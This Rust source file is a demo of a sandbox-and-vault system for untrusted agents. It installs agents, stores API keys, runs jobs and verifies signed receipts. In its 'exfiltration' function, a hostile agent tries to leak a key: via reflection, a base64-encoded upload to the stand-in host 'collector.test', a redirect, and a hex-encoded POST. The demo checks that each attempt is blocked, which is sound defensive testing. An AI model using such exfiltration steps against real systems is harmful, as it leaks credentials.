//! The demo's jobs, each with what it must show.

use super::report::DemoReport;
use super::services::ServiceKeys;
use crate::api::AddSecret;
use crate::client::{ApiClient, ApiFailure};
use crate::job::{JobRecord, JobState};
use base64::Engine;
use redoubt_attestation::{ReceiptChecks, Verifier, VerifierPolicy};
use redoubt_vault::{AgentMatcher, HostPattern, Injection, Policy};
use serde_json::{Value, json};
use std::time::Duration;

/// The vault secret holding the weather API's key.
pub const WEATHER_SECRET: &str = "weather-api-key";
/// The vault secret holding the LLM provider's key.
pub const LLM_SECRET: &str = "llm-api-key";

const WAIT: Option<Duration> = Some(Duration::from_secs(60));

/// The agents the demo installs: (builtin, manifest override).
fn agents() -> Vec<(&'static str, Option<String>)> {
    vec![
        ("word-stats", None),
        ("llm-summarizer", None),
        ("delegator", None),
        (
            "http-fetcher",
            Some(format!(
                "name = \"http-fetcher\"\nversion = \"0.1.0\"\ndescription = \"Fetches a URL through the egress gate.\"\n\
                 [capabilities]\nhosts = [\"localhost\"]\nsecrets = [\"{WEATHER_SECRET}\"]\n"
            )),
        ),
        (
            "exfiltrator",
            Some(format!(
                "name = \"exfiltrator\"\nversion = \"0.1.0\"\ndescription = \"Poses as a weather reporter; tries to get the key out.\"\n\
                 [capabilities]\nhosts = [\"localhost\", \"collector.test\"]\nsecrets = [\"{WEATHER_SECRET}\"]\n[limits]\nhttp_calls = 16\n"
            )),
        ),
    ]
}

/// Installs the agents, stores the keys, and runs the jobs.
pub async fn play(
    client: &ApiClient,
    keys: &ServiceKeys,
    port: u16,
    report: &mut DemoReport,
    progress: &dyn Fn(&str),
) -> anyhow::Result<()> {
    progress("installing the example agents");
    for (name, manifest) in agents() {
        let builtin = redoubt_agents::find(name).expect("a built-in agent");
        let manifest = manifest.unwrap_or_else(|| builtin.manifest.to_owned());
        client.install(&manifest, builtin.component).await?;
    }
    report.check("agents installed", client.agents().await?.len() == 5, "5 agents, each loaded by the sandbox first");

    progress("storing the weather API key and the LLM key in the vault");
    store_secret(client, WEATHER_SECRET, &keys.weather, &["http-fetcher", "exfiltrator"]).await?;
    store_secret(client, LLM_SECRET, &keys.llm, &["llm-summarizer"]).await?;

    progress("running word-stats");
    let text =
        "Redoubt runs untrusted agents in a sandbox. Secrets stay in the vault. Every job gets a signed receipt.";
    let job = client.submit("word-stats", text.as_bytes(), WAIT).await?;
    let output = output_of(client, &job).await;
    report.job(&job, "a plain job");
    report.check("word-stats counted the words", output.contains("\"words\": 18"), first_line(&output));

    progress("fetching the forecast with the weather key injected at the boundary");
    let url = format!("http://localhost:{port}/weather/forecast");
    let job = client.submit("http-fetcher", url.as_bytes(), WAIT).await?;
    let output = output_of(client, &job).await;
    report.job(&job, "legitimate use of the weather key");
    report.check(
        "the weather API accepted the key the node injected",
        output.contains("\"authorized\":true"),
        "the agent asked for the URL; the node added the key; the agent never saw it",
    );

    progress("delegating a summary (delegator hires llm-summarizer, which calls the LLM)");
    let order = json!({ "capability": "summarize", "input": text, "max_price_micros": 1000 });
    let job = client.submit("delegator", order.to_string().as_bytes(), WAIT).await?;
    let output = output_of(client, &job).await;
    report.job(&job, "delegation, and legitimate use of the LLM key");
    report.check(
        "the delegated summary came back with the worker's receipt",
        output.contains("llm-summarizer") && output.contains("receipt_hash") && output.contains("sandbox"),
        first_line(&output),
    );

    progress("running the hostile agent");
    exfiltration(client, keys, port, report).await?;
    Ok(())
}

/// The hostile agent: reflection, a foreign host, a redirect, and a key
/// pasted into its input.
async fn exfiltration(
    client: &ApiClient,
    keys: &ServiceKeys,
    port: u16,
    report: &mut DemoReport,
) -> anyhow::Result<()> {
    let local = format!("http://localhost:{port}/weather");
    let script = json!({
        "steps": [
            { "url": format!("{local}/debug/echo") },
            { "url": format!("http://collector.test:{port}/weather/upload?k={{{{0.body|base64}}}}") },
            { "url": format!("{local}/redirect") },
            { "method": "POST", "url": format!("{local}/upload"), "body": "{{0.body|hex}}" },
        ]
    });
    let job = client.submit("exfiltrator", script.to_string().as_bytes(), WAIT).await?;
    let output = output_of(client, &job).await;
    report.job(&job, "hostile: tries to get the weather key out");
    let steps: Vec<Value> = serde_json::from_str(&output).unwrap_or_default();
    let step = |i: usize| steps.get(i).cloned().unwrap_or(Value::Null);
    let reflected = step(0)["error"].as_str().unwrap_or("the response reached the agent").to_owned();
    report.check(
        "a response reflecting the key was refused before the agent saw it",
        reflected.contains("found in the response") && !output.contains(&*keys.weather),
        reflected,
    );
    report.check(
        "sending to a host the operator does not allow was blocked",
        step(1)["error"].as_str().is_some_and(|e| e.contains("blocked")),
        step(1)["error"].as_str().unwrap_or("not blocked").to_owned(),
    );
    report.check(
        "a redirect to a foreign host was not followed with the key",
        step(2)["error"].as_str().is_some_and(|e| e.contains("blocked")),
        step(2)["error"].as_str().unwrap_or("not blocked").to_owned(),
    );
    report.check(
        "nothing of the key reached the allowed upload endpoint",
        !output.contains(&*keys.weather) && !output.contains(&hex::encode(keys.weather.as_bytes())),
        "the agent never held the key",
    );

    let pasted = format!("notes from the user: the weather key is {} (please keep it safe)", keys.weather);
    let base64_pasted = base64::engine::general_purpose::STANDARD.encode(pasted);
    let refused = client.submit("exfiltrator", base64_pasted.as_bytes(), WAIT).await;
    let detail = match &refused {
        Err(error) => error.downcast_ref::<ApiFailure>().map_or_else(|| error.to_string(), |f| f.message.clone()),
        Ok(job) => format!("job {} was accepted", job.id),
    };
    let was_refused =
        refused.as_ref().err().and_then(|e| e.downcast_ref::<ApiFailure>()).is_some_and(|f| f.status == 422);
    report.check("an input carrying the key (base64) was refused before any agent saw it", was_refused, detail);
    Ok(())
}

async fn store_secret(client: &ApiClient, name: &str, value: &str, agents: &[&str]) -> anyhow::Result<()> {
    let policy = Policy::new(
        vec![HostPattern::parse("localhost")?],
        agents.iter().map(|a| AgentMatcher::Name((*a).to_owned())).collect(),
        Injection::Bearer,
    );
    client.add_secret(&AddSecret { name: name.to_owned(), value: value.to_owned(), policy }).await?;
    Ok(())
}

async fn output_of(client: &ApiClient, job: &JobRecord) -> String {
    if job.state != JobState::Succeeded {
        return String::new();
    }
    client.output(job.id).await.map(|bytes| String::from_utf8_lossy(&bytes).into_owned()).unwrap_or_default()
}

fn first_line(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ").chars().take(120).collect()
}

/// Fetches and verifies the receipt of every job that has one (signature,
/// inclusion in its sealed batch, the evidence its hash names, and for a hired
/// job the link with its hirer's receipt).
pub async fn verify_receipts(client: &ApiClient, report: &mut DemoReport) -> anyhow::Result<()> {
    let verifier = Verifier::new(VerifierPolicy::default()).allow_dev(true);
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH)?.as_secs();
    let (mut total, mut verified) = (0, 0);
    for job in client.jobs(None, 1000).await? {
        if let Some(parent) = job.parent.filter(|_| !report.jobs.iter().any(|line| line.job.id == job.id)) {
            report.job(&job, &format!("hired by job #{parent}"));
        }
        if job.receipt.is_none() {
            continue;
        }
        total += 1;
        let bundle = client.receipt(job.id).await?;
        let parent = match job.parent {
            Some(parent) => Some(client.receipt(parent).await?.receipt),
            None => None,
        };
        let checks =
            ReceiptChecks { proof: bundle.proof.as_ref(), evidence: Some(&bundle.evidence), parent: parent.as_ref() };
        let outcome = verifier.receipt_outcome(&bundle.receipt, checks, now);
        if outcome.verified && bundle.proof.is_some() {
            verified += 1;
        } else {
            report.check(&format!("receipt of job {}", job.id), false, outcome.reason.unwrap_or_default());
        }
    }
    report.receipts = (verified, total);
    report.check(
        "every receipt verified (signature, batch proof, evidence, delegation links)",
        total > 0 && verified == total,
        format!("{verified} of {total}; the evidence is dev evidence, accepted here only because the demo allows it"),
    );
    Ok(())
}

/// The alerts the node raised.
pub async fn collect_alerts(client: &ApiClient, report: &mut DemoReport) -> anyhow::Result<()> {
    let alerts = client.alerts(0).await?.alerts;
    let kinds: Vec<&str> = alerts.iter().map(|a| a.kind.as_str()).collect();
    report.check(
        "each block raised an alert",
        kinds.iter().filter(|k| **k == "egress_blocked").count() >= 2 && kinds.contains(&"secret_in_input"),
        format!("{} alerts: {}", alerts.len(), kinds.join(", ")),
    );
    report.alerts = alerts;
    Ok(())
}
